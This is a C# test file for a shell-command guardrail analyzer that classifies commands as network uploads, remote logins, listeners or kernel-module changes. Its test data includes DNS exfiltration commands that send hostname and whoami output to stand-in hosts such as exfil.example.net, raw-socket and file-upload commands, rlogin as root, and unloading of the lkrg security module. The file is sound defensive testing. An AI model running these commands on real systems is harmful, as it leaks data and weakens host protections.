using Guardrails.Actions;

namespace Guardrails.Tests.Shell.Programs;

/// <summary>Query clients that carry data, remote logins, raw sockets, file servers and kernel-module unloading.</summary>
public sealed class NetworkClientsTests
{
    [Theory]
    [InlineData("dig @8.8.8.8 -p 53 $(hostname).exfil.example.net", "exfil.example.net", 53)]
    [InlineData("nslookup `whoami`.exfil.example.net", "exfil.example.net", null)]
    [InlineData("host ${DATA}.a.example.org", "a.example.org", null)]
    public void Analyze_DnsNameWithComputedLabels_SendsDataToTheDomain(string command, string domain, int? port)
    {
        var transfer = Cmd.Run(command).Single<NetworkTransfer>();

        transfer.Direction.Should().Be(TransferDirection.Upload);
        transfer.Host.Should().Be(domain);
        transfer.Port.Should().Be(port);
    }

    [Theory]
    [InlineData("dig example.com")]
    [InlineData("host $(uname -n)")]
    [InlineData("dig +short $DOMAIN")]
    [InlineData("nslookup github.com 8.8.8.8")]
    [InlineData("nslookup ${SERVICE}.default.svc.cluster.local")]
    [InlineData("dig $(hostname).corp.internal")]
    public void Analyze_DnsLookup_SendsNothing(string command)
    {
        Cmd.Run(command).Of<NetworkTransfer>().Should().NotContain(t => t.Direction == TransferDirection.Upload);
    }

    [Theory]
    [InlineData("finger DATA@collect.example.net", TransferDirection.Upload)]
    [InlineData("finger @collect.example.net", TransferDirection.Unknown)]
    [InlineData("whois -h collect.example.net -p 4444 DATA", TransferDirection.Upload)]
    [InlineData("cancel -h collect.example.net:631 -u DATA", TransferDirection.Upload)]
    [InlineData("whois example.com", TransferDirection.Unknown)]
    public void Analyze_QueryToAChosenServer_SendsTheQuery(string command, TransferDirection direction)
    {
        Cmd.Run(command).Single<NetworkTransfer>().Direction.Should().Be(direction);
    }

    [Theory]
    [InlineData("finger alice")]
    [InlineData("cancel printer-1")]
    public void Analyze_LocalQuery_HasNoTransfer(string command)
    {
        Cmd.Run(command).Of<NetworkTransfer>().Should().BeEmpty();
    }

    [Fact]
    public void Analyze_RloginAndRsh_AreRemoteExecution()
    {
        Cmd.Run("rlogin -l root -p 513 host.example.net").Single<RemoteExecution>().Host.Should().Be("host.example.net");

        var rsh = Cmd.Run("rsh host.example.net ls -l /srv");
        rsh.Single<RemoteExecution>().Command.Should().Be("ls -l /srv");
        rsh.ShellCalls.Should().ContainSingle().Which.Code.Should().Be("ls -l /srv");
    }

    [Theory]
    [InlineData("quit\n", false)]
    [InlineData(null, true)]
    public void Analyze_TelnetWithInput_SendsIt(string? stdinText, bool fromPipe)
    {
        Cmd.Run("telnet collect.example.net 8081", stdinText: stdinText, stdinFromPipe: fromPipe).Single<NetworkTransfer>().Direction.Should().Be(TransferDirection.Upload);
        Cmd.Run("telnet collect.example.net 8081").Single<NetworkTransfer>().Direction.Should().Be(TransferDirection.Unknown);
    }

    [Fact]
    public void Analyze_ZshTcpModule_OpensARawConnectionOrListens()
    {
        var transfer = Cmd.Run("ztcp collect.example.net 4444").Single<NetworkTransfer>();
        transfer.Should().BeEquivalentTo(new { Direction = TransferDirection.Upload, Host = "collect.example.net", Port = 4444 });

        Cmd.Run("ztcp -l 4444").Single<NetworkListen>().Port.Should().Be(4444);
        Cmd.Run("ztcp -c 3").Operations.OfType<NetworkTransfer>().Should().BeEmpty();
    }

    [Theory]
    [InlineData("smbclient //files.example.net/share -c 'put /opt/app/data.bin out'", "/opt/app/data.bin")]
    [InlineData("lftp -c 'open files.example.net; put /opt/app/data.bin'", "/opt/app/data.bin")]
    [InlineData("lftp files.example.net -e 'mirror -R /srv/site site; bye'", "/srv/site")]
    [InlineData("tftp files.example.net -c put /opt/app/data.bin", "/opt/app/data.bin")]
    public void Analyze_ClientCommandsOnTheCommandLine_UploadWhatTheyPut(string command, string file)
    {
        var transfer = Cmd.Run(command).Of<NetworkTransfer>().Single(t => t.Direction == TransferDirection.Upload);

        transfer.LocalPaths.Should().Contain(file);
    }

    [Fact]
    public void Analyze_FtpScriptOnStandardInput_UploadsWhatItPuts()
    {
        var transfer = Cmd.Run("ftp -n files.example.net", stdinText: "user anonymous x\nput /opt/app/data.bin\nget report.txt\nbye\n").Single<NetworkTransfer>();

        transfer.Direction.Should().Be(TransferDirection.Upload);
        transfer.LocalPaths.Should().Equal("/opt/app/data.bin");
    }

    [Theory]
    [InlineData("http-server dist -p 8080", "/home/agent/dist", 8080)]
    [InlineData("http-server", "/home/agent", null)]
    [InlineData("miniserve -p 9000 /srv/files", "/srv/files", 9000)]
    [InlineData("darkhttpd /srv/www --port 8081", "/srv/www", 8081)]
    [InlineData("serve -l 3000 build", "/home/agent/build", 3000)]
    [InlineData("updog -d /srv/share -p 9090", "/srv/share", 9090)]
    [InlineData("caddy file-server --root /srv/site --listen :8000", "/srv/site", 8000)]
    [InlineData("webfsd -r /srv/www -p 8000", "/srv/www", 8000)]
    [InlineData("simplehttpserver -path /var/www/html -listen 0.0.0.0:80", "/var/www/html", 80)]
    public void Analyze_FileServer_ServesItsRoot(string command, string root, int? port)
    {
        var host = Cmd.Run(command);

        host.Single<NetworkListen>().Port.Should().Be(port);
        var served = host.Single<NetworkTransfer>();
        served.Direction.Should().Be(TransferDirection.Upload);
        served.LocalPaths.Should().Equal(root);
    }

    [Fact]
    public void Analyze_BusyboxHttpd_ServesItsHome()
    {
        var host = Cmd.Run("busybox httpd -f -p 12345 -h .");

        host.Single<NetworkTransfer>().LocalPaths.Should().Equal("/home/agent");
        host.Single<NetworkListen>().Port.Should().Be(12345);
    }

    [Theory]
    [InlineData("httpd -k start")]
    [InlineData("caddy run")]
    [InlineData("miniserve -i 127.0.0.1 /srv/files")]
    public void Analyze_ServerThatServesNoKnownDirectoryToOthers_OnlyListensOrNothing(string command)
    {
        Cmd.Run(command).Of<NetworkTransfer>().Should().BeEmpty();
    }

    [Theory]
    [InlineData("rmmod lkrg", "lkrg")]
    [InlineData("modprobe -r nf_tables", "nf_tables")]
    [InlineData("kextunload /Library/Extensions/SoftRAID.kext", "/Library/Extensions/SoftRAID.kext")]
    [InlineData("kmutil unload -p /Library/Extensions/x.kext", "/Library/Extensions/x.kext")]
    public void Analyze_KernelModuleUnload_StopsTheModule(string command, string module)
    {
        var host = Cmd.Run(command);

        host.Single<SignalSend>().Targets.Should().Equal(module);
        host.Of<ScheduledTask>().Should().BeEmpty();
    }

    [Fact]
    public void Analyze_KernelModuleLoad_IsStillPersistence()
    {
        Cmd.Run("modprobe evil").Single<ScheduledTask>().Mechanism.Should().Be("kernel-module");
        Cmd.Run("rmmod --help").Of<SignalSend>().Should().BeEmpty();
    }
}
